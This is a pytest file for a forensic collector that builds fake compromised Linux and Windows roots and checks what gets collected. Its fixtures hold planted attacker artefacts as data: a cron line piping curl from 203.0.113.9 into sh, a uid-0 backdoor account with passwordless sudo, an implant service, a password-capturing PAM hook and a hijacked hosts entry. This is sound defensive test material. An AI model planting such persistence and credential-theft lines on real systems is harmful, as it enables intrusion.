"""The spine's file-based collectors on a dead-box root (`ungcuu collect --root`, B2-B4, B9-B11).

A fake Linux root and a fake Windows root are built in tmp_path from the real sample files, collected
through the command line (desktop.cli.main) and checked item by item, with exact hashes.
"""
from __future__ import annotations

import gzip
import hashlib
import os
import shutil
from pathlib import Path

import pytest

from collectors import records
from collectors.case import Case
from collectors.verify import verify_case
from desktop import cli

SECURITY_EVTX_SHA = "5f29a03cf8c1b4bfbd82c4074ccc81ecfe85d7ee15375afc352ed5025c9a4d8d"
AUTH_LOG_SHA = "87e90f5e3824fc0e37690971b3b457ad2ea004fa20e3318dd93ba90861600ed9"
WTMP_SHA = "29e7489c71c8df699f9b34a70f7ee1e649cea2df00598f78793fcdf0fc3bb6be"
BASH_HISTORY_SHA = "ebba51b0ae5bc730c2623366b9de875dfc69a9c679dca00fe6b85695440a6586"
ZSH_HISTORY_SHA = "264daefbd5c1cdfc7bb443ab4c01be24c01021c7fcb789fd8d019065b6828ebf"
DPKG_LOG_SHA = "a90cf2c00d5b4e4954ee1058c0f6a4ef1cf55c64879c458ec211fd3a2b622956"

PASSWD = """\
root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
alice:x:1000:1000:Alice Nguyễn,,,:/home/alice:/bin/bash
backdoor:x:0:0::/tmp/.x:/bin/sh
"""
GROUP = "root:x:0:\nsudo:x:27:alice,backdoor\nalice:x:1000:\n"
CRONTAB = "SHELL=/bin/sh\n*/5 * * * * root curl -s http://203.0.113.9/x | sh\n"
DPKG_STATUS = """\
Package: openssh-server
Status: install ok installed
Architecture: amd64
Version: 1:9.2p1-2+deb12u3
Description: secure shell (SSH) server
 multi-line description

Package: nginx
Status: install ok installed
Architecture: amd64
Version: 1.22.1-9

Package: removed-thing
Status: deinstall ok config-files
Architecture: all
Version: 0.1
"""
NGINX_UNIT = "[Unit]\nDescription=nginx\n[Service]\nExecStart=/usr/sbin/nginx -g 'daemon on;'\n[Install]\nWantedBy=multi-user.target\n"
EVIL_UNIT = "[Service]\nExecStart=/tmp/.x/implant --quiet\n[Install]\nWantedBy=multi-user.target\n"
TASK_XML = """<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo><Date>2024-03-01T10:00:00</Date><Author>EVIL\\admin</Author></RegistrationInfo>
  <Triggers><LogonTrigger><Enabled>true</Enabled></LogonTrigger></Triggers>
  <Principals><Principal id="Author"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals>
  <Settings><Enabled>true</Enabled><Hidden>true</Hidden></Settings>
  <Actions Context="Author"><Exec><Command>C:\\Users\\Public\\updater.exe</Command><Arguments>-k</Arguments></Exec></Actions>
</Task>
"""


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def write(root: Path, rel: str, data: bytes | str, mode: int | None = None) -> Path:
    p = root / rel
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_bytes(data.encode() if isinstance(data, str) else data)
    if mode is not None:
        p.chmod(mode)
    return p


def build_linux_root(root: Path, shared: Path) -> dict:
    logs = shared / "logs"
    write(root, "etc/hostname", "web01.tinh.gov.vn\n")
    write(root, "etc/os-release", 'NAME="Debian GNU/Linux"\nVERSION_ID="12"\nID=debian\nPRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\n')
    write(root, "etc/timezone", "Asia/Ho_Chi_Minh\n")
    write(root, "etc/passwd", PASSWD)
    write(root, "etc/group", GROUP)
    write(root, "etc/crontab", CRONTAB)
    write(root, "etc/hosts", "127.0.0.1 localhost\n203.0.113.9 update.microsoft.com\n")
    write(root, "etc/sudoers.d/backdoor", "backdoor ALL=(ALL) NOPASSWD:ALL\n")
    write(root, "etc/cron.d/job", "* * * * * root /tmp/.x/implant\n")
    # resolv.conf is an absolute link, as on systemd-resolved hosts: it must resolve inside the root
    write(root, "run/systemd/resolve/stub-resolv.conf", "nameserver 127.0.0.53\nsearch tinh.gov.vn\n")
    os.symlink("/run/systemd/resolve/stub-resolv.conf", root / "etc/resolv.conf")
    write(root, "var/lib/dpkg/status", DPKG_STATUS)
    info = write(root, "var/lib/dpkg/info/nginx.list", "/usr/sbin/nginx\n")
    os.utime(info, (1_700_000_000, 1_700_000_000))
    write(root, "lib/systemd/system/nginx.service", NGINX_UNIT)
    write(root, "etc/systemd/system/implant.service", EVIL_UNIT)
    (root / "etc/systemd/system/multi-user.target.wants").mkdir(parents=True)
    os.symlink("/lib/systemd/system/nginx.service", root / "etc/systemd/system/multi-user.target.wants/nginx.service")
    os.symlink("/etc/systemd/system/implant.service", root / "etc/systemd/system/multi-user.target.wants/implant.service")
    write(root, "lib/systemd/system/getty@.service", "[Service]\nExecStart=-/sbin/agetty %I\n[Install]\nWantedBy=getty.target\n")
    (root / "etc/systemd/system/getty.target.wants").mkdir(parents=True)
    os.symlink("/lib/systemd/system/getty@.service", root / "etc/systemd/system/getty.target.wants/getty@tty1.service")
    write(root, "lib/systemd/system/rsync.service", "[Service]\nExecStart=/usr/bin/rsync --daemon\n[Install]\nWantedBy=multi-user.target\n")
    os.symlink("/dev/null", root / "etc/systemd/system/rsync.service")
    write(root, "lib/systemd/system/apache-htcacheclean.service", "[Service]\nExecStart=/usr/bin/htcacheclean\n[Install]\nWantedBy=multi-user.target\n")
    write(root, "lib/systemd/system/systemd-journald.service", "[Service]\nExecStart=/lib/systemd/systemd-journald\n")
    write(root, "etc/init.d/legacy-daemon", "#!/bin/sh\n")
    write(root, "etc/nginx/nginx.conf", "events {}\n")
    write(root, "etc/nginx/sites-available/default", "server { root /var/www/html; }\n")
    (root / "etc/nginx/sites-enabled").mkdir()
    os.symlink("/etc/nginx/sites-available/default", root / "etc/nginx/sites-enabled/default")
    write(root, "etc/pam.d/sshd", "auth optional pam_exec.so quiet expose_authtok /tmp/.x/log\n")
    write(root, "etc/ssh/sshd_config", "PermitRootLogin yes\n")
    write(root, "root/.ssh/authorized_keys", "ssh-ed25519 AAAA attacker@evil\n")
    write(root, "home/alice/.bashrc", "alias ls='ls --color'\n")
    # logs: the real samples, a rotated gzip, binary wtmp, a symlink loop, a name that is not UTF-8
    auth = (logs / "elastic-beats/system_auth_test.log").read_bytes()
    write(root, "var/log/auth.log", auth)
    write(root, "var/log/dpkg.log", (logs / "plaso-test-data/dpkg.log").read_bytes())
    write(root, "var/log/wtmp", (logs / "plaso-test-data/utmp_wtmp.1").read_bytes())
    syslog = (logs / "plaso-test-data/syslog_syslog").read_bytes()
    gz = gzip.compress(syslog, mtime=0)
    write(root, "var/log/syslog.2.gz", gz)
    write(root, "var/log/nginx/access.log", '203.0.113.9 - - [24/Nov/2026:10:00:00 +0700] "GET /shell.php HTTP/1.1" 200 12\n')
    (root / "var/log/loop").mkdir()
    os.symlink("..", root / "var/log/loop/up")          # a directory loop
    os.symlink("self", root / "var/log/self")            # a link to itself
    weird = os.fsencode(root / "var/log") + b"/caf\xe9-\xff.log"
    with open(weird, "wb") as fh:
        fh.write(b"latin-1 name\n")
    write(root, "var/log/journal/abc/system.journal", b"LPKSHHRH" + b"\0" * 248)
    write(root, "root/.bash_history", (logs / "plaso-test-data/bash_history").read_bytes())
    write(root, "home/alice/.zsh_history", (logs / "plaso-test-data/zsh_extended_history.txt").read_bytes())
    os.symlink("/dev/null", root / "home/alice/.bash_history")
    return {"gz": sha(gz), "syslog": syslog}


def collect(case_dir: Path, root: Path, *extra: str) -> int:
    return cli.main(["--lang", "en", "collect", "--case", str(case_dir), "--root", str(root), *extra])


def by_source(case: Case, cid: str) -> dict:
    return {r.source: r for r in case.evidence(cid)}


def load(case: Case, name: str):
    rec = case.latest(name)
    assert rec is not None, f"{name} not collected"
    return records.plain(case.read_json(rec))


@pytest.fixture(scope="module")
def linux_case(tmp_path_factory, shared_data):
    base = tmp_path_factory.mktemp("linux")
    root = base / "root"
    root.mkdir()
    facts = build_linux_root(root, shared_data)
    rc = collect(base / "case", root, "--profile", "triage")
    case = Case.open(base / "case", affected_root="")
    yield case, facts, rc, root
    case.close()


def test_offline_outcomes_item_by_item(linux_case):
    case, _facts, rc, _root = linux_case
    assert rc == 0
    out = {k: v for k, v in case.outcomes().items()}
    for cid in ("B6", "B7", "B8", "B11"):  # live-only items
        assert out[cid]["state"] == "skipped", cid
        assert "not applicable to an offline root" in out[cid]["reason"]
    # B9: the image's file-system timeline and temporary folders (the disk list itself is live-only)
    assert out["B9"]["state"] in ("collected", "partial"), out["B9"]["reason"]
    assert case.latest("bodyfile-etc.body") is not None
    assert out["B1"]["state"] == "skipped" and "contact point" in out["B1"]["reason"]
    # B2: the file-based facts are read; the live-only ones are said to be missing
    assert out["B2"]["state"] == "partial" and "offline root" in out["B2"]["reason"]
    assert out["B3"]["state"] == "collected"
    assert out["B4"]["state"] == "collected", out["B4"]["reason"]
    assert "windows_config: not available on linux" in out["B4"]["reason"]
    assert out["B10"]["state"] == "collected", out["B10"]["reason"]
    assert verify_case(case.path, log=False).ok


def test_offline_system_and_roles(linux_case):
    case, *_ = linux_case
    system = load(case, "system.json")
    assert system["hostname"] == "web01.tinh.gov.vn"
    assert system["os"]["distro"] == "Debian GNU/Linux" and system["os"]["distro_version"] == "12"
    assert system["timezone"] == "Asia/Ho_Chi_Minh"
    assert system["boot_time"] is None and system["users"] == []
    roles = load(case, "roles.json")
    found = {(r["role"], r["evidence"]) for r in roles}
    assert ("web", "service nginx.service enabled") in found
    assert ("web", "configuration /etc/nginx/nginx.conf present") in found
    assert ("ssh", "configuration /etc/ssh/sshd_config present") in found
    assert not any(r["role"] == "database" for r in roles)


def test_offline_configuration(linux_case):
    case, *_ = linux_case
    rel = load(case, "os_release.json")
    assert rel["os_release"]["PRETTY_NAME"] == "Debian GNU/Linux 12 (bookworm)"
    pkgs = {p["name"]: p for p in load(case, "packages.json")}
    assert pkgs["openssh-server"]["version"] == "1:9.2p1-2+deb12u3" and pkgs["openssh-server"]["arch"] == "amd64"
    assert pkgs["openssh-server"]["manager"] == "dpkg" and pkgs["openssh-server"]["installed"] is True
    assert pkgs["nginx"]["install_time"] == "2023-11-14T22:13:20.000000Z"
    assert pkgs["removed-thing"]["installed"] is False
    services = {s["name"]: s for s in load(case, "services.json")}
    assert services["implant.service"]["exec"] == "/tmp/.x/implant --quiet"
    assert services["implant.service"]["enabled"] == "enabled"
    assert services["implant.service"]["unit_path"] == "/etc/systemd/system/implant.service"
    assert services["nginx.service"]["enabled"] == "enabled" and services["nginx.service"]["state"] is None
    assert services["nginx.service"]["unit_path"] == "/lib/systemd/system/nginx.service"
    assert services["getty@.service"]["enabled"] == "enabled"
    assert services["rsync.service"]["enabled"] == "masked"
    assert services["apache-htcacheclean.service"]["enabled"] == "disabled"
    assert services["systemd-journald.service"]["enabled"] == "static"
    assert services["legacy-daemon"]["enabled"] == "sysv" and services["legacy-daemon"]["exec"] == "/etc/init.d/legacy-daemon"
    users = {u["name"]: u for u in load(case, "users.json")}
    assert users["backdoor"] == {"name": "backdoor", "uid": 0, "gid": 0, "gecos": "", "home": "/tmp/.x", "shell": "/bin/sh"}
    assert users["alice"]["gecos"] == "Alice Nguyễn,,,"
    groups = {g["name"]: g for g in load(case, "groups.json")}
    assert groups["sudo"]["members"] == ["alice", "backdoor"]
    net = load(case, "network_config.json")
    assert net["dns"]["nameservers"] == ["127.0.0.53"] and net["dns"]["search"] == ["tinh.gov.vn"]
    files = by_source(case, "B4")
    assert case.evidence_path(files["/etc/crontab"]).read_text() == CRONTAB
    assert files["/etc/crontab"].kind == "file" and files["/etc/crontab"].name == "crontab"
    for src in ("/etc/passwd", "/etc/group", "/etc/hosts", "/etc/sudoers.d/backdoor", "/etc/cron.d/job",
                "/etc/systemd/system/implant.service", "/lib/systemd/system/nginx.service",
                "/root/.ssh/authorized_keys", "/home/alice/.bashrc", "/run/systemd/resolve/stub-resolv.conf",
                "/etc/nginx/nginx.conf", "/etc/nginx/sites-available/default", "/etc/pam.d/sshd"):
        assert src in files, src
    links = {ln["path"]: ln["target"] for ln in load(case, "config_symlinks.json")}
    assert links["/etc/systemd/system/multi-user.target.wants/implant.service"] == "/etc/systemd/system/implant.service"
    assert links["/etc/resolv.conf"] == "/run/systemd/resolve/stub-resolv.conf"
    assert links["/etc/nginx/sites-enabled/default"] == "/etc/nginx/sites-available/default"
    assert "/etc/nginx/sites-enabled/default" not in files  # a link is listed, its target copied once


def test_offline_logs_exact(linux_case):
    case, facts, _rc, _root = linux_case
    logs = by_source(case, "B10")
    assert logs["/var/log/auth.log"].sha256 == AUTH_LOG_SHA
    assert logs["/var/log/wtmp"].sha256 == WTMP_SHA
    assert logs["/var/log/dpkg.log"].sha256 == DPKG_LOG_SHA
    assert logs["/root/.bash_history"].sha256 == BASH_HISTORY_SHA
    assert logs["/home/alice/.zsh_history"].sha256 == ZSH_HISTORY_SHA
    gz = logs["/var/log/syslog.2.gz"]
    assert gz.sha256 == facts["gz"] and gz.name == "syslog.2.gz"  # copied as is, not decompressed
    assert gzip.decompress(case.evidence_path(gz).read_bytes()) == facts["syslog"]
    assert "/var/log/nginx/access.log" in logs
    weird = logs["/var/log/caf\\xe9-\\xff.log"]
    assert case.evidence_path(weird).read_bytes() == b"latin-1 name\n"
    # the journal files of an offline root are copied by the journal collector
    journal = [r for r in case.evidence("B10") if r.source == "/var/log/journal/abc/system.journal"]
    assert [r.collector for r in journal] == ["journal"]  # not also copied by log_files
    links = {ln["path"]: ln["target"] for ln in load(case, "log_symlinks.json")}
    assert links == {"/var/log/loop/up": "..", "/var/log/self": "self", "/home/alice/.bash_history": "/dev/null"}
    for rec in case.evidence("B10"):
        if rec.kind == "file":
            assert rec.orig_meta["size"] == rec.size and rec.orig_meta["mtime"].endswith("Z")


def test_offline_root_never_escapes(tmp_path):
    """An absolute link under the root must resolve inside the root, never on the examiner's machine."""
    from collectors.artifacts._common import resolve_in_root
    from collectors.base import Context

    root = tmp_path / "r"
    (root / "etc").mkdir(parents=True)
    os.symlink("/etc/shadow", root / "etc/passwd")
    os.symlink("../../../../../../../../etc/hostname", root / "etc/hostname")
    os.symlink("loop2", root / "etc/loop1")
    os.symlink("loop1", root / "etc/loop2")
    ctx = Context.__new__(Context)
    ctx.root = root.resolve()
    assert resolve_in_root(ctx, "/etc/passwd") is None  # /etc/shadow does not exist inside the root
    assert resolve_in_root(ctx, "/etc/hostname") is None
    assert resolve_in_root(ctx, "/etc/loop1") is None
    (root / "etc/shadow").write_text("x")
    assert resolve_in_root(ctx, "/etc/passwd") == ctx.root / "etc/shadow"


def test_windows_layout_offline(tmp_path, shared_data):
    root = tmp_path / "win"
    evtx = shared_data / "evtx/evtx-rs-samples/security.evtx"
    logs = root / "WINDOWS/system32/WinEvt/logs"
    logs.mkdir(parents=True)
    shutil.copyfile(evtx, logs / "Security.evtx")
    shutil.copyfile(shared_data / "evtx/evtx-rs-samples/system.evtx", logs / "System.EVTX")
    (logs / "notes.txt").write_text("not a log")
    # one folder per name, as on a real NTFS volume, but in any letter case
    write(root, "WINDOWS/system32/tasks/Microsoft/Updater", TASK_XML.encode("utf-16"))
    write(root, "WINDOWS/system32/tasks/broken", b"<Task><unclosed>")
    write(root, "users/alice/ntuser.dat", b"regf" + b"\1" * 4092)
    rc = collect(tmp_path / "case", root, "--only", "B2,B4,B8,B10")
    case = Case.open(tmp_path / "case", affected_root="")
    try:
        out = case.outcomes()
        assert out["B8"]["state"] == "skipped" and "offline root" in out["B8"]["reason"]
        assert out["B10"]["state"] == "collected", out["B10"]["reason"]
        ev = by_source(case, "B10")
        sec = ev["/WINDOWS/system32/WinEvt/logs/Security.evtx"]
        assert sec.sha256 == SECURITY_EVTX_SHA and sec.size == 2166784 and sec.name == "Security.evtx"
        assert "/WINDOWS/system32/WinEvt/logs/System.EVTX" in ev
        assert not any(s.endswith("notes.txt") for s in ev)
        assert out["B4"]["state"] == "partial"
        assert "broken: not a valid task XML" in out["B4"]["reason"]
        assert "/users/alice/ntuser.dat: not a readable registry hive" in out["B4"]["reason"]
        tasks = load(case, "windows_scheduled_tasks.json")
        assert len(tasks) == 1
        t = tasks[0]
        assert t["path"] == "\\Microsoft\\Updater" and t["hidden"] is True and t["user"] == "S-1-5-18"
        assert t["actions"] == [{"type": "exec", "command": "C:\\Users\\Public\\updater.exe", "arguments": "-k",
                                 "working_directory": None}]
        assert t["triggers"][0]["type"] == "LogonTrigger"
        b4 = by_source(case, "B4")
        assert "/users/alice/ntuser.dat" in b4  # hives are copied even when they cannot be parsed
        assert "without SOFTWARE or SYSTEM hive" in out["B4"]["reason"]
        assert out["B2"]["state"] == "partial"
        assert load(case, "system.json")["os"]["system"] == "Windows"
        assert rc == 0
    finally:
        case.close()
